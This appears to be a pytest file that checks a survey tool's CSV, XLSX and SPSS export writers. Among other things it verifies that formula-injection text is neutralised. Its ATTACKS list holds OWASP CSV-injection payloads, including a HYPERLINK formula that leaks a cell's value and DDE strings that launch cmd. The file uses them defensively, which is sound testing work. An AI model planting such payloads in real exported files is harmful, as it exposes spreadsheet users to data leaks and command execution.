"""The export writers, read back with csv, openpyxl, pyreadstat and pandas.read_spss."""

from __future__ import annotations

import csv
import io
import math
import zipfile
from datetime import date

import openpyxl
import pandas as pd
import pyreadstat
import pytest

from empower.reports.exports import (
    Table,
    Variable,
    neutralise_formula,
    spss_names,
    write_csv,
    write_hxl_csv,
    write_sav,
    write_xlsx,
)

#: Text a user could type into a free-text field (region of origin, country) that a
#: spreadsheet would otherwise run: the OWASP "CSV injection" examples and their cousins.
ATTACKS = [
    '=HYPERLINK("http://example.org/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width equals sign
]


def _effects_table() -> Table:
    return Table(
        name="t", title="Test",
        variables=[
            Variable("region", "Region of origin"),
            Variable("effect", "Effect", "number", value_labels={-2: "−2", 2: "+2"},
                     missing=("not_applicable",)),
            Variable("version", "Version"),
            Variable("types", "Types"),
        ],
        rows=[
            {"region": attack, "effect": effect, "version": version, "types": types}
            for attack, effect, version, types in zip(
                ATTACKS, [-2, -1, 0, 1, 2, "not_applicable", None],
                ["-2", "+1", "2.0", "-0.5", "x", "y", "z"],
                [["=a", "b"], [], ["c"], ["d"], ["e"], ["f"], ["g"]], strict=True)
        ],
    )


def test_neutralise_formula_follows_owasp_and_keeps_numbers():
    for attack in ATTACKS:
        assert neutralise_formula(attack) == "'" + attack
    assert neutralise_formula("-2") == "-2"
    assert neutralise_formula("+1.5") == "+1.5"
    assert neutralise_formula("Khulna") == "Khulna"
    assert neutralise_formula("খুলনা") == "খুলনা"


def test_csv_neutralises_text_but_keeps_negative_effects_numeric():
    content = write_csv(_effects_table())
    text = content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["region"] for r in rows] == ["'" + a for a in ATTACKS]
    assert [r["effect"] for r in rows] == ["-2", "-1", "0", "1", "2", "not_applicable", ""]
    assert [r["version"] for r in rows[:4]] == ["-2", "+1", "2.0", "-0.5"]
    assert rows[0]["types"] == "'=a;b"
    # every field is quoted, so that a ';' in text never splits a cell in a ';' locale
    assert text.splitlines()[1].startswith('"\'=HYPERLINK(""http://example.org/')
    assert ',"-2","-2",' in text.splitlines()[1]  # quoted, yet plain numbers
    # pandas reads the effects as numbers
    frame = pd.read_csv(io.BytesIO(content), encoding="utf-8-sig")
    assert frame["effect"].tolist()[:5] == ["-2", "-1", "0", "1", "2"]  # words in the column
    numbers = pd.to_numeric(frame["effect"], errors="coerce")
    assert numbers.tolist()[:5] == [-2, -1, 0, 1, 2]


def test_hxl_csv_neutralises_labels():
    table = Table("a", "A", [Variable("x", "=1+1", hxl="#indicator+num")], [{"x": -3}])
    rows = list(csv.reader(io.StringIO(write_hxl_csv(table).decode("utf-8-sig"))))
    assert rows == [["'=1+1"], ["#indicator+num"], ["-3"]]


def test_xlsx_keeps_formula_like_text_as_text_and_numbers_as_numbers():
    content = write_xlsx(_effects_table())
    sheet = openpyxl.load_workbook(io.BytesIO(content))["t"]
    column = {c.value: i for i, c in enumerate(sheet[1])}
    for row, attack in zip(sheet.iter_rows(min_row=2), ATTACKS, strict=True):
        cell = row[column["region"]]
        # the value is unchanged (XML itself stores a carriage return as a line feed) …
        assert cell.value == attack.replace("\r", "\n")
        assert cell.data_type == "s"  # … stored as text …
        if attack.startswith(("=", "+", "-", "@", "\t", "\r", "＝")):
            assert cell.quotePrefix  # … and kept text when edited in Excel
    effects = [row[column["effect"]] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in effects[:5]] == [-2, -1, 0, 1, 2]
    assert {c.data_type for c in effects[:5]} == {"n"}
    # no formula anywhere in the workbook's XML
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_spss_names_follow_the_rules():
    names = spss_names(["effect__family__healing", "all", "BY", "1st", "_x", "a b", "A_B",
                        "a_b", "x" * 70, "x" * 70 + "y", "ok."])
    assert names["effect__family__healing"] == "effect__family__healing"  # valid: kept
    assert names["all"] == "v_all" and names["BY"] == "v_BY"  # reserved keywords
    assert names["1st"] == "v_1st" and names["_x"] == "v__x"  # must start with a letter
    assert names["a b"] == "a_b" and names["A_B"] == "A_B_2" and names["a_b"] == "a_b_3"
    assert names["x" * 70] == "x" * 64 and names["x" * 70 + "y"] == "x" * 62 + "_2"
    assert names["ok."] == "ok"  # may not end with a full stop
    upper = [n.upper() for n in names.values()]
    assert len(set(upper)) == len(upper)
    assert all(len(n.encode()) <= 64 and n[0].isalpha() for n in names.values())


LONG_BENGALI = "খুলনা বিভাগের একটি গ্রাম থেকে আসা " * 20
LONG_BURMESE = "မြန်မာနိုင်ငံ၏ အရှေ့ပိုင်းဒေသ " * 30


@pytest.fixture
def sav_table() -> Table:
    variables = [
        Variable("participant", "Participant code (random)"),
        Variable("conducted_on", "Date of the interview", "date"),
        Variable("region", "Region", value_labels={1: "never written"}),
        Variable("1st answer", "First answer", "number",
                 value_labels={1: "1 – " + "অনেক বেশি " * 20, 2: "2"},
                 missing=("prefer_not_to_say",)),
        Variable("effect", "Effect", "number", value_labels={-2: "−2 strongly", 2: "+2 strongly"},
                 missing=("prefer_not_to_say", "not_applicable")),
        Variable("service_type", "Type of service", value_labels={1: "Shelter", 2: "Rescue"},
                 word_codes={"shelter": 1, "rescue": 2}),
        Variable("all", "A reserved word"),
    ]
    rows = [
        {"participant": "P-A", "conducted_on": date(2026, 3, 4), "region": LONG_BENGALI,
         "1st answer": 1, "effect": -2, "service_type": "rescue", "all": "x"},
        {"participant": "P-B", "conducted_on": None, "region": LONG_BURMESE,
         "1st answer": "prefer_not_to_say", "effect": "not_applicable",
         "service_type": "shelter", "all": ""},
        {"participant": "P-C", "conducted_on": date(2025, 12, 31), "region": None,
         "1st answer": None, "effect": "prefer_not_to_say", "service_type": None, "all": "y"},
    ]
    return Table("t", "A title that is longer than the sixty-four bytes SPSS keeps for it",
                 variables, rows, notes=["A note."])


def test_sav_reads_back_with_pyreadstat(sav_table, tmp_path):
    path = tmp_path / "t.sav"
    path.write_bytes(write_sav(sav_table))
    frame, meta = pyreadstat.read_sav(str(path), user_missing=True)
    assert meta.column_names == ["participant", "conducted_on", "region", "v_1st_answer",
                                 "effect", "service_type", "v_all"]
    # dates are SPSS dates, not date-times
    assert meta.original_variable_types["conducted_on"].startswith("DATE")
    assert frame["conducted_on"].tolist()[0] == date(2026, 3, 4)
    assert frame["conducted_on"].isna().tolist() == [False, True, False]
    # Bengali and Burmese text is kept whole: the width is counted in bytes
    assert frame["region"].tolist()[:2] == [LONG_BENGALI.strip(), LONG_BURMESE.strip()]
    width = int(meta.original_variable_types["region"][1:])
    assert width >= len(LONG_BURMESE.strip().encode("utf-8"))
    # value labels on numeric variables only; long labels cut within 120 bytes
    assert "region" not in meta.variable_value_labels
    assert "v_all" not in meta.variable_value_labels
    answer_labels = meta.variable_value_labels["v_1st_answer"]
    assert len(answer_labels[1].encode("utf-8")) <= 120 and answer_labels[1].startswith("1 – ")
    assert answer_labels[-99] == "Prefer not to say"
    assert meta.variable_value_labels["effect"] == {
        -2: "−2 strongly", 2: "+2 strongly", -99: "Prefer not to say", -98: "Does not apply"}
    # user-missing codes declared; read without them they become missing
    assert {"lo": -98.0, "hi": -98.0} in meta.missing_ranges["effect"]
    assert {"lo": -99.0, "hi": -99.0} in meta.missing_ranges["effect"]
    assert frame["effect"].tolist() == [-2, -98, -99]
    assert frame["v_1st_answer"].tolist()[:2] == [1, -99]
    assert math.isnan(frame["v_1st_answer"].tolist()[2])
    plain, _meta = pyreadstat.read_sav(str(path))
    assert plain["effect"].isna().tolist() == [False, True, True]
    # coded words become numbers with the words' labels
    assert meta.variable_value_labels["service_type"] == {1: "Shelter", 2: "Rescue"}
    assert frame["service_type"].tolist()[:2] == [2, 1]
    # the file label fits SPSS's 64 bytes; the renaming is documented in the file
    assert len(meta.file_label.encode()) <= 64
    document = " ".join(meta.notes)
    assert "1st answer is v_1st_answer" in document and "all is v_all" in document
    labels = dict(zip(meta.column_names, meta.column_labels, strict=True))
    assert labels["v_1st_answer"] == "First answer"


def test_sav_reads_back_with_pandas(sav_table, tmp_path):
    path = tmp_path / "t.sav"
    path.write_bytes(write_sav(sav_table))
    frame = pd.read_spss(str(path), convert_categoricals=True)
    assert frame["service_type"].tolist()[:2] == ["Rescue", "Shelter"]
    assert frame["region"].tolist()[1] == LONG_BURMESE.strip()
    assert frame["effect"].tolist()[0] == "−2 strongly"
    assert frame["effect"].isna().tolist()[1:] == [True, True]  # user-missing → missing


def test_xlsx_variables_sheet_gives_the_spss_name_and_codes(sav_table):
    workbook = openpyxl.load_workbook(io.BytesIO(write_xlsx(sav_table)))
    rows = list(workbook["variables"].values)
    assert rows[0][-1] == "SPSS name"
    by_name = {r[0]: r for r in rows[1:]}
    assert by_name["1st answer"][-1] == "v_1st_answer"
    assert by_name["participant"][-1] == "participant"
    assert by_name["service_type"][3] == "shelter = Shelter (SPSS 1); rescue = Rescue (SPSS 2)"
    data = list(workbook["t"].values)
    assert data[1][data[0].index("service_type")] == "rescue"  # the word, not the code
